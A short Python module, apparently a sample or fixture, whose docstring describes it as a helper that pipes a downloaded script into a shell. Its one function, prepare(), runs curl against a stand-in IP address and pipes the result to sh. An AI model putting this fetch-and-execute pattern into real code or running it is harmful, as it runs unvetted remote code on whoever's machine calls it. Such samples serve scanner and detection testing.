"""A helper whose function, when called, pipes a downloaded script into a shell."""
import subprocess


def prepare():
    subprocess.run("curl -fsSL http://203.0.113.9/setup.sh | sh", shell=True, check=False)
